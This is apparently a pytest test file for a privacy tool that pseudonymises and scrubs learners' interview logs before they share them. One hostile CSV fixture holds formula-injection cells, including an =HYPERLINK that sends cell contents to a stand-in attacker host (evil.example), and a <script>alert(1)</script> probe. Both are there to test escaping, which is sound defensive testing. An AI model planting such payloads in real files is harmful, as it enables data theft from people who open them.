"""Sharing a log: structured by default (pseudonyms, placeholders, every row), free text only when
chosen and then scrubbed by the one detector; the class summary's check refuses what is left."""
from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from helpers import log, sharing as share, workspace
from helpers.core import detect
from helpers.core.words import is_common
from helpers.sharing.view import share_log_button


def fold(text: str) -> str:
    return " ".join(detect.fold(text).split())

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "data" / "sample_log.csv"
KEPT = ["date", "status", "kind", "channel", "sector", "referrals", "may_use_name", "contact_details",
        "thank_you_sent", "follow_up_on", "followed_up"]


def identifying_terms(raw: pd.DataFrame) -> set[str]:
    """Every whole name and organisation of a log, and each name token of 3+ letters (folded)."""
    terms: set[str] = set()
    for col in ("contact", "referred_by"):
        for value in raw[col]:
            if value.strip():
                terms.add(fold(value))
                terms.update(t for t in re.split(r"[^\w']+", fold(value)) if len(t) >= 3)
    for value in raw["organisation"]:
        if value.strip() and not share.is_generic_org(value):
            terms.add(fold(value))
            terms.update(t for t in re.split(r"[^\w']+", fold(value))
                         if len(t) >= 3 and t not in detect.GENERIC_ORG_WORDS)
    return terms


def found_in(text: str, term: str) -> bool:
    """A name in a text, ignoring case and accents; a name that is also a word ("grant") only capitalised."""
    pattern = r"(?<!\w)" + r"\s+".join(map(re.escape, term.split())) + r"(?!\w)"
    if is_common(term):   # a name that is also an everyday word ("grant") counts only capitalised
        return any(text[m.start()].isupper() for m in re.finditer(pattern, text, flags=re.IGNORECASE))
    return re.search(pattern, fold(text)) is not None


@pytest.fixture
def shared_sample(tmp_path: Path) -> Path:
    out = tmp_path / "shared.csv"
    share.share_file(SAMPLE, out)
    return out


def _log_file(folder: Path, name: str, text: str) -> Path:
    """A log file ``name`` in ``folder`` holding ``text``."""
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


# ---------------------------------------------------------------------------------------
# The sample log
# ---------------------------------------------------------------------------------------
def test_sample_shared_holds_no_name_or_organisation_in_any_column(shared_sample: Path):
    original = log.load(SAMPLE).raw
    terms = identifying_terms(original)
    assert {"rosa delgado", "rosa", "delgado", "northgate health", "northgate", "medisync"} <= terms
    shared = log.load(shared_sample).raw
    assert list(shared.columns) == [c for c in original.columns if c not in share.FREE_TEXT]
    for col in shared.columns:
        column_text = "\n".join(shared[col])
        leaks = sorted(t for t in terms if found_in(column_text, t))
        assert not leaks, f"column {col} still holds {leaks}"
    whole = shared_sample.read_text(encoding="utf-8-sig")
    assert not [t for t in terms if found_in(whole, t)]


def test_sample_every_row_and_the_useful_columns_kept(shared_sample: Path):
    original = log.load(SAMPLE)
    shared = log.load(shared_sample)
    assert len(shared.raw) == len(original.raw) == 27
    assert list(shared.raw.index) == list(original.raw.index)
    for col in KEPT:
        assert shared.raw[col].tolist() == original.raw[col].tolist(), col
    assert shared.problems == original.problems == []
    for col in share.FREE_TEXT:
        assert col not in shared.raw.columns, f"{col} left the workspace without being chosen"
    assert shared.raw["contact"].str.fullmatch(r"Person \d\d").all()
    assert set(shared.raw["organisation"]) >= {"Family", "Friends", "Classmates", "Organisation A"}


def test_sample_referral_chains_survive(shared_sample: Path):
    original = log.load(SAMPLE).raw
    shared = log.load(shared_sample).raw
    pseudo = dict(zip(original["contact"], shared["contact"]))
    assert len(set(pseudo.values())) == len(pseudo), "two people share a pseudonym"
    chains = 0
    for row in original.index:
        by = original.at[row, "referred_by"]
        if by:
            assert shared.at[row, "referred_by"] == pseudo[by]
            chains += 1
        else:
            assert shared.at[row, "referred_by"] == ""
    assert chains >= 20
    # Rosa Delgado -> Jordan Reyes -> Aisha Qureshi: the same chain under pseudonyms.
    rows = {c: r for r, c in original["contact"].items()}
    jordan, aisha = rows["Jordan Reyes"], rows["Aisha Qureshi"]
    assert shared.at[aisha, "referred_by"] == shared.at[jordan, "contact"]
    assert shared.at[jordan, "referred_by"] == shared.at[rows["Rosa Delgado"], "contact"]


def test_pseudonyms_are_stable(tmp_path: Path, shared_sample: Path):
    again = tmp_path / "again.csv"
    share.share_file(SAMPLE, again)
    assert again.read_bytes() == shared_sample.read_bytes()
    # Adding a row at the end keeps everyone's pseudonym.
    text = SAMPLE.read_text(encoding="utf-8").rstrip("\n") + "\n2026-12-10,New Person,New Org,requested,,,,,,,,,,,,,,\n"
    grown = tmp_path / "grown.csv"
    grown.write_text(text, encoding="utf-8")
    share.share_file(grown, tmp_path / "grown_shared.csv")
    before = log.load(shared_sample).raw["contact"].tolist()
    after = log.load(tmp_path / "grown_shared.csv").raw["contact"].tolist()
    assert after[:-1] == before and after[-1] == "Person 28"


def test_names_that_are_also_words(tmp_path: Path):
    # Oliver Grant is in the sample; "grant reports" is about money, and stays when chosen.
    out = tmp_path / "chosen.csv"
    share.share_file(SAMPLE, out, include=["insights"])
    assert "write grant reports" in "\n".join(log.load(out).raw["insights"])
    p = share.names_of(pd.DataFrame({"contact": ["Will Grant"], "referred_by": [""], "organisation": [""]}))
    assert detect.scrub("Grant said I will apply for a grant.", p.index, p.by_ref)[0] == \
        "Person 01 said I will apply for a grant."


def test_free_text_chosen_holds_no_name_either(tmp_path: Path):
    out = tmp_path / "all.csv"
    share.share_file(SAMPLE, out, include=share.FREE_TEXT)
    terms = identifying_terms(log.load(SAMPLE).raw)
    whole = out.read_text(encoding="utf-8-sig")
    assert not [t for t in terms if found_in(whole, t)]
    assert share.check_shared(out) == []


def test_sharing_a_shared_log_changes_nothing(shared_sample: Path, tmp_path: Path):
    twice = tmp_path / "twice.csv"
    share.share_file(shared_sample, twice)
    assert twice.read_bytes() == shared_sample.read_bytes()


def test_check_shared_accepts_the_shared_sample_and_refuses_the_original(shared_sample: Path):
    assert share.check_shared(shared_sample) == []
    findings = share.check_shared(SAMPLE)
    assert findings, "the original log names people"
    assert findings[0].startswith("sample_log.csv: row 2, contact:")
    assert findings[-1].startswith("sample_log.csv: ask the learner to share the log again")
    assert "Rosa" not in "\n".join(findings), "the findings must not repeat the names"
    assert any("organisation" in f for f in findings)


# ---------------------------------------------------------------------------------------
# Hostile and awkward logs
# ---------------------------------------------------------------------------------------
HOSTILE = """date,contact,organisation,status,referred_by,notes,feedback,thank_you_sent,kind,Phone,Notes about Tom Berg
2026-03-02,José Núñez,Acme Widgets Ltd,held,,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",<script>alert(1)</script>,2026-03-02,real,+44 20 7946 0958,=SUM(A1:A9)
2026-03-09,Tom Berg,Acme Widgets Ltd,held,José Núñez,"jose NUNEZ said mail tom.berg@acme.example or call (555) 010-7788",Ask ACME people; Berg's tip,ask Tom Berg,practice,555 0101 234,Tom is kind
2026-03-10,Li Na,Zeta Labs,held,Tom,"Li Na and Li said hi; see https://linkedin.com/in/lina-zeta",-5 years,,real,,"@Tom Berg"
2026-03-11,Mum,Family,held,,"Mum, then Tom",+1 idea,,practice,,
"""


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[log.Log, pd.DataFrame, Path]:
    source = _log_file(tmp_path, "hostile.csv", HOSTILE)
    out = tmp_path / "hostile_shared.csv"
    share.share_file(source, out, include=["notes", "feedback", "Phone", "Notes about Tom Berg"])
    return log.load(source), log.load(out).raw, out


def test_hostile_left_out_by_default(tmp_path: Path):
    source = _log_file(tmp_path, "hostile.csv", HOSTILE)
    out = tmp_path / "default.csv"
    result = share.share_file(source, out)
    shared = log.load(out).raw
    assert list(shared.columns) == ["date", "contact", "organisation", "status", "referred_by", "thank_you_sent", "kind"]
    assert result.ok and result.problems == []
    raw = out.read_text(encoding="utf-8-sig")
    for leak in ["José", "Jose", "Tom", "Berg", "Acme", "7946", "Zeta", "Mum"]:
        assert leak not in raw


def test_hostile_names_accents_and_case(hostile):
    original, shared, out = hostile
    text = fold(out.read_text(encoding="utf-8-sig"))
    for term in ["jose", "nunez", "tom", "berg", "acme", "widgets", "zeta", "mum"]:
        assert not found_in(text, term), term
    assert shared["contact"].tolist() == ["Person 01", "Person 02", "Person 03", "Person 04"]
    assert shared.at[3, "notes"].startswith("Person 01 said mail [e-mail] or call [phone]")
    assert shared.at[3, "feedback"] == "Ask Organisation A people; Person 02's tip"


def test_hostile_first_name_referrer_joins_the_chain(hostile):
    _, shared, _ = hostile
    assert shared.at[4, "referred_by"] == "Person 02"   # "Tom" is Tom Berg, the only Tom
    assert shared.at[3, "referred_by"] == "Person 01"


@pytest.mark.parametrize("contact,referrer", [
    ("Anne-Marie Dubois", "Anne Marie Dubois"), ("Anne Marie Dubois", "Anne-Marie Dubois"),
    ("Anne-Marie Dubois", "Anne-Marie"), ("Siobhán O'Brien", "siobhan"), ("Priyanka Raman", "Priya"),
    ("Priyanka Raman", "Raman"), ("Jean-Luc Martin", "JEAN-LUC"),
])
def test_a_referrer_written_short_or_with_a_hyphen_keeps_the_chain(contact: str, referrer: str):
    raw = pd.DataFrame({"date": ["2026-03-02", "2026-03-09"], "contact": [contact, "Ben Ode"],
                        "organisation": ["Acme", "Acme"], "status": ["held", "held"], "referred_by": ["", referrer]})
    shared = share.shared_frame(log.Log(raw=raw, data=log.analyse(raw)[0]))
    assert shared["referred_by"].tolist() == ["", "Person 01"]


def test_two_contacts_with_the_same_first_name_are_not_guessed():
    raw = pd.DataFrame({"date": ["2026-03-02"] * 3, "contact": ["Ana Silva", "Ana Berg", "Ben Ode"],
                        "organisation": ["Acme"] * 3, "status": ["held"] * 3, "referred_by": ["", "", "Ana"]})
    shared = share.shared_frame(log.Log(raw=raw, data=log.analyse(raw)[0]))
    assert shared.at[2, "referred_by"] == "Person 04"   # its own pseudonym: no guess between two Anas


def test_a_duplicated_contact_column_smuggles_nothing_out(tmp_path: Path):
    source = _log_file(tmp_path, "dup.csv",
                       "date,contact,organisation,status,contact\n"
                       "2026-03-02,Ana Silva,Acme,held,Tom Berg Globex\n")
    try:
        lg = log.load(source)
    except log.LogFileError:
        return  # the log reader refuses a duplicated header: nothing to share at all
    out = tmp_path / "dup_shared.csv"
    share.share(lg, out)
    raw = out.read_text(encoding="utf-8-sig")
    assert "Tom" not in raw and "Berg" not in raw and "Globex" not in raw
    share.share(lg, out, include=[c for c in lg.raw.columns if c.startswith("contact.")])
    raw = out.read_text(encoding="utf-8-sig")
    assert "Tom" not in raw and "Berg" not in raw and "Globex" not in raw


def test_short_names_go_whole_or_after_a_title(hostile):
    _, shared, _ = hostile
    # "Li Na" is removed whole; "Li" alone (2 letters) is a capitalised name-like word: replaced too.
    assert shared.at[4, "notes"] == "Person 03 and [name] said hi; see [link]"


def test_hostile_contact_details_and_unknown_columns(hostile):
    _, shared, out = hostile
    assert "Phone" in shared.columns
    assert shared["Phone"].tolist() == ["[phone]", "[phone]", "", ""]
    assert "Notes about Person 02" in shared.columns, "a name in a column header is removed too"
    assert shared["Notes about Person 02"].tolist() == ["=SUM(A1:A9)", "Person 02 is kind", "[handle] Person 02", ""]
    raw = out.read_text(encoding="utf-8-sig")
    for leak in ["7946", "010-7788", "acme.example", "linkedin", "0101"]:
        assert leak not in raw


def test_hostile_unreadable_cell_in_a_structured_column_is_left_empty(hostile):
    original, shared, _ = hostile
    assert any(p.row == 3 and p.column == "thank_you_sent" for p in original.problems)
    assert shared.at[3, "thank_you_sent"] == ""
    assert shared.at[2, "thank_you_sent"] == "2026-03-02"


def test_formulas_escaped_in_the_file_and_readable_back(hostile):
    original, shared, out = hostile
    lines = out.read_text(encoding="utf-8-sig").splitlines()
    assert "'=HYPERLINK(" in lines[1]
    assert ",'-5 years," in lines[3]
    assert ",'+1 idea," in lines[4]
    assert ",'=SUM(A1:A9)" in lines[1]
    assert shared.at[2, "Notes about Person 02"] == "=SUM(A1:A9)"   # reading undoes the escaping
    assert shared.at[2, "notes"].startswith('=HYPERLINK("[link]')    # the link inside is removed
    assert shared.at[2, "feedback"] == "<script>alert(1)</script>"   # kept as text, never run


def test_hostile_shared_file_passes_check_and_the_original_does_not(hostile, tmp_path: Path):
    _, _, out = hostile
    assert share.check_shared(out) == []
    findings = share.check_shared(tmp_path / "hostile.csv")
    joined = "\n".join(findings)
    assert "row 2, contact" in joined and "row 3, notes: holds an e-mail address" in joined
    assert "row 2, Phone: holds a phone number" in joined
    assert "a column name holds" in joined
    assert "Núñez" not in joined and "7946" not in joined


def test_preview_shows_what_is_sent_and_what_was_found(tmp_path: Path):
    source = _log_file(tmp_path, "hostile.csv", HOSTILE)
    view = share.preview(log.load(source), include=[(3, "notes")], strike=["hi"])
    assert [(c.row, c.column) for c in view.cells] == [(3, "notes")]
    cell = view.cells[0]
    kinds = [f.kind for f in cell.findings]
    assert kinds == ["person", "email", "phone"]
    assert cell.sent == "Person 01 said mail [e-mail] or call [phone]"
    assert view.left_out == {"notes": 3, "feedback": 4, "Phone": 2, "Notes about Tom Berg": 3}
    assert "notes" in view.frame.columns and view.frame.at[4, "notes"] == ""
    assert "feedback" not in view.frame.columns


def test_struck_words_never_leave(tmp_path: Path):
    source = _log_file(tmp_path, "s.csv",
                       "date,contact,organisation,status,notes\n"
                       "2026-01-05,Ana Silva,Bluebird Cafe,held,my aunt bibi helped\n")
    out = tmp_path / "o.csv"
    share.share_file(source, out, include=["notes"], strike=["bibi"])
    assert log.load(out).raw.at[2, "notes"] == "my aunt [name] helped"


def test_semicolon_log_keeps_its_separator(tmp_path: Path):
    source = _log_file(tmp_path, "semi.csv",
                       "date;contact;organisation;status;notes\n"
                       "2026-01-05;Ana Silva;Bluebird Cafe;held;Ana: 5 stars\n")
    out = tmp_path / "semi_shared.csv"
    share.share_file(source, out, include=["notes"])
    assert out.read_text(encoding="utf-8-sig").splitlines() == [
        "date;contact;organisation;status;notes", "2026-01-05;Person 01;Organisation A;held;Person 01: 5 stars"]


def test_header_only_log(tmp_path: Path):
    source = _log_file(tmp_path, "empty.csv", ",".join(log.COLUMNS) + "\n")
    result = share.share_file(source, tmp_path / "out.csv")
    assert result.ok and len(result.item.frame) == 0
    assert (tmp_path / "out.csv").read_text(encoding="utf-8-sig").strip() == ",".join(
        c for c in log.COLUMNS if c not in share.FREE_TEXT)


def test_check_shared_on_files_that_cannot_be_read(tmp_path: Path):
    bad = tmp_path / "bad.csv"
    bad.write_bytes(b"\x00\x01binary")
    assert "bad.csv" in share.check_shared(bad)[0]
    assert "does not exist" in share.check_shared(tmp_path / "none.csv")[0]


def test_check_shared_catches_a_tampered_copy(shared_sample: Path, tmp_path: Path):
    text = shared_sample.read_text(encoding="utf-8-sig").replace("Person 05", "Jordan Reyes", 1)
    text = text.replace("Organisation B", "Lakeside Clinic", 1)
    tampered = tmp_path / "tampered.csv"
    tampered.write_text(text, encoding="utf-8")
    findings = share.check_shared(tampered)
    assert "tampered.csv: row 6, contact: holds what looks like a real name" in findings[0]
    assert any("row 7, organisation" in f for f in findings)
    assert "Jordan" not in "\n".join(findings)


def test_check_shared_refuses_free_text_the_issue_found(tmp_path: Path):
    path = tmp_path / "leaky.csv"
    path.write_text("date,contact,organisation,status,notes\n"
                    "2026-03-02,Person 01,Organisation A,held,Siobhán O'Brien at Northwind Biologics\n"
                    "2026-03-03,Person 02,Organisation A,held,mail hope [at] kestrelfinch [dot] co.uk\n"
                    "2026-03-04,Person 03,Organisation A,held,see zoekowalczyk.com or @bjorn_designs\n",
                    encoding="utf-8")
    joined = "\n".join(share.check_shared(path))
    for expected in ["row 2, notes: holds what looks like a name", "row 3, notes: holds an e-mail address",
                     "row 4, notes: holds a web address", "row 4, notes: holds a social media handle"]:
        assert expected in joined


# ---------------------------------------------------------------------------------------
# The learner's own log, the form and the command line
# ---------------------------------------------------------------------------------------
def test_share_learner_log_without_a_log(workspace: Path):
    result = share.share_learner_log()
    assert not result.saved and result.codes == ["no_log"]
    assert not (workspace / share.SHARED_NAME).exists()


def test_share_learner_log_writes_shared_log(workspace: Path):
    workspace.mkdir(parents=True, exist_ok=True)
    (workspace / "interview_log.csv").write_bytes(SAMPLE.read_bytes())
    result = share.share_learner_log()
    path = workspace / share.SHARED_NAME
    assert result.ok and path.exists()
    assert "27 interview(s)" in result.message and "27 people" in result.message
    assert "Left out (stays with you): role" in result.message
    first = path.read_bytes()
    share.share_learner_log()
    assert path.read_bytes() == first, "sharing again rewrites the same file"
    assert (workspace / "interview_log.csv").read_bytes() == SAMPLE.read_bytes(), "the log is untouched"


def test_share_learner_log_unreadable(workspace: Path):
    workspace.mkdir(parents=True, exist_ok=True)
    (workspace / "interview_log.csv").write_text("nothing,useful\n1,2\n", encoding="utf-8")
    result = share.share_learner_log()
    assert result.codes == ["unreadable_log"] and "'contact'" in result.message


def test_share_form_idle_then_previews_then_writes(workspace: Path):
    form = share_log_button()
    assert not (workspace / share.SHARED_NAME).exists(), "building the form writes nothing"
    assert form.controls["share"].disabled, "no copy before a preview"
    form.controls["preview"].click()
    assert "no log of your own yet" in form.status.value
    workspace.mkdir(parents=True, exist_ok=True)
    (workspace / "interview_log.csv").write_text(
        "date,contact,organisation,status,notes\n2026-01-05,Ana Silva,Bluebird Cafe,held,"
        "<b>Ana</b> said mail ana@bluebird.example\n", encoding="utf-8")
    form.controls["notes"].value = True
    form.controls["preview"].click()
    html = form.extras["preview"].value
    assert "<mark" in html and "&lt;b&gt;" in html and "<b>" not in html
    assert not form.controls["share"].disabled
    form.controls["strike"].value = "said"            # a changed choice needs a new preview
    assert form.controls["share"].disabled
    form.controls["preview"].click()
    form.controls["share"].click()
    assert (workspace / share.SHARED_NAME).exists()
    assert "Wrote shared_log.csv" in form.status.value
    shared = log.load(workspace / share.SHARED_NAME).raw
    assert shared.at[2, "notes"] == "<b>Person 01</b> [name] mail [e-mail]"
    assert "Ana" not in form.extras["preview"].value


def test_share_form_bad_rows_are_said(workspace: Path):
    workspace.mkdir(parents=True, exist_ok=True)
    (workspace / "interview_log.csv").write_bytes(SAMPLE.read_bytes())
    form = share_log_button()
    form.controls["insights"].value = True
    form.controls["rows"].value = "three"
    form.controls["preview"].click()
    assert "is not a row number" in form.status.value and form.controls["share"].disabled
    form.controls["rows"].value = "3, 5-6"
    form.controls["preview"].click()
    form.controls["share"].click()
    shared = log.load(workspace / share.SHARED_NAME).raw
    original = log.load(SAMPLE).raw
    assert [r for r in shared.index if shared.at[r, "insights"]] == [
        r for r in (3, 5, 6) if original.at[r, "insights"].strip()]


def test_share_form_on_an_uncreatable_workspace(tmp_path: Path, monkeypatch):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    monkeypatch.setenv("INTERVIEW_WORKSPACE", str(blocker / "work"))
    form = share_log_button()
    assert "cannot start" in form.widget.children[0].value and "share" not in form.controls


def test_share_button_found_through_forms():
    from helpers import forms

    assert forms.share_log_button is share_log_button


def run_cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "helpers", *args],
                          capture_output=True, text=True, cwd=cwd)


def test_cli_share(tmp_path: Path):
    proc = run_cli("share", str(SAMPLE), "--out", str(tmp_path / "out" / "shared.csv"), cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "Wrote shared.csv: 27 interview(s)" in proc.stdout and "Left out" in proc.stdout
    assert share.check_shared(tmp_path / "out" / "shared.csv") == []


def test_cli_share_include_and_strike(tmp_path: Path):
    source = _log_file(tmp_path, "log.csv",
                       "date,contact,organisation,status,notes\n"
                       "2026-02-01,Priyanka Raman,Globex,held,Priya at Globex said to read the Harbourview report\n")
    out = tmp_path / "shared.csv"
    proc = run_cli("share", str(source), "--out", str(out), "--include", "notes", "--strike", "Harbourview",
                   cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    notes = log.load(out).raw.loc[2, "notes"]
    assert "Priya" not in notes and "Globex" not in notes and "Harbourview" not in notes
    assert "report" in notes and "cannot recognise every name" in proc.stderr


@pytest.mark.parametrize("case", ["missing", "binary", "same-file", "out-is-folder"])
def test_cli_share_errors_exit_2_without_traceback(case: str, tmp_path: Path):
    source = tmp_path / "log.csv"
    out = tmp_path / "shared.csv"
    if case == "binary":
        source.write_bytes(b"PK\x03\x04\x00\x00")
    elif case == "same-file":
        source.write_bytes(SAMPLE.read_bytes())
        out = source
    elif case == "out-is-folder":
        source.write_bytes(SAMPLE.read_bytes())
        out = tmp_path / "folder"
        out.mkdir()
    proc = run_cli("share", str(source), "--out", str(out), cwd=tmp_path)
    assert proc.returncode == 2
    assert proc.stderr.startswith("error: ") and "Traceback" not in proc.stderr
    if case == "same-file":
        assert source.read_bytes() == SAMPLE.read_bytes()


def test_cli_share_help(tmp_path: Path):
    proc = run_cli("share", "--help", cwd=tmp_path)
    assert proc.returncode == 0 and "Person 01" in proc.stdout
    proc = run_cli("share", str(SAMPLE), cwd=tmp_path)
    assert proc.returncode == 2 and "--out" in proc.stderr


def test_nothing_written_to_the_workspace_by_the_cli(tmp_path: Path):
    run_cli("share", str(SAMPLE), "--out", str(tmp_path / "s.csv"), cwd=tmp_path)
    assert not workspace.folder(create=False).exists()


def test_contact_written_as_a_role_keeps_the_sector(tmp_path: Path):
    source = _log_file(tmp_path, "roles.csv",
                       "date,contact,organisation,status,sector,notes\n"
                       "2026-02-01,Healthcare recruiter,Brightside Care,held,Healthcare,The Healthcare recruiter was kind\n")
    out = tmp_path / "roles_shared.csv"
    share.share_file(source, out, include=["notes"])
    shared = log.load(out).raw
    assert shared.loc[2, "sector"] == "Healthcare"
    assert shared.loc[2, "notes"] == "The Person 01 was kind"
    assert shared.loc[2, "organisation"] == "Organisation A"


def test_a_200_kb_base64_cell_is_shared_and_checked(tmp_path: Path):
    """Correctness only; the time (linear, against a 20 KB cell) is in scripts/benchmark_long_text.py."""
    import base64
    import os

    blob = base64.b64encode(os.urandom(150_000)).decode()
    source = _log_file(tmp_path, "blob.csv",
                       "date,contact,organisation,status,notes\n"
                       f"2026-01-05,Ana Silva,Bluebird Cafe,held,{blob}\n")
    share.share_file(source, tmp_path / "left.csv")
    share.share_file(source, tmp_path / "chosen.csv", include=["notes"])
    share.check_shared(tmp_path / "chosen.csv")
    assert (tmp_path / "left.csv").exists() and (tmp_path / "chosen.csv").exists()


def test_share_form_on_a_read_only_workspace_writes_nothing(workspace: Path, monkeypatch):
    import os

    workspace.mkdir(parents=True, exist_ok=True)
    (workspace / "interview_log.csv").write_bytes(SAMPLE.read_bytes())
    real_access = os.access
    monkeypatch.setattr(os, "access", lambda path, mode, *a, **k: False if mode & os.W_OK else real_access(path, mode))
    form = share_log_button()
    assert "cannot start" in form.widget.children[0].value
    assert not (workspace / share.SHARED_NAME).exists()


def test_a_failing_write_is_a_refused_result_and_nothing_is_half_written(workspace: Path, monkeypatch):
    import os

    workspace.mkdir(parents=True, exist_ok=True)
    (workspace / "interview_log.csv").write_bytes(SAMPLE.read_bytes())

    def refuse(*args, **kwargs):
        raise PermissionError(13, "Permission denied")
    monkeypatch.setattr(os, "replace", refuse)
    result = share.share_learner_log()
    assert not result.saved and result.problems and "Traceback" not in result.message
    assert not (workspace / share.SHARED_NAME).exists()


def test_hand_in_on_a_class_hub_copies_the_shared_copy_to_the_learners_box(tmp_path: Path, monkeypatch):
    import pwd

    assert share.hand_in() is None   # off the hub: the learner sends the file themselves
    drop = tmp_path / "drop"
    box = drop / pwd.getpwuid(os.getuid()).pw_name
    box.mkdir(parents=True)
    monkeypatch.setenv("WORKSHOP_DROP_DIR", str(drop))
    shared = tmp_path / "shared_log.csv"
    share.share_file(SAMPLE, shared)
    result = share.hand_in(shared)
    assert result.ok and (box / "shared_log.csv").read_bytes() == shared.read_bytes()
    (box / "shared_log.csv").unlink()
    box.rmdir()
    assert share.hand_in(shared).codes == ["not_handed_in"]   # no box: said plainly, nothing written
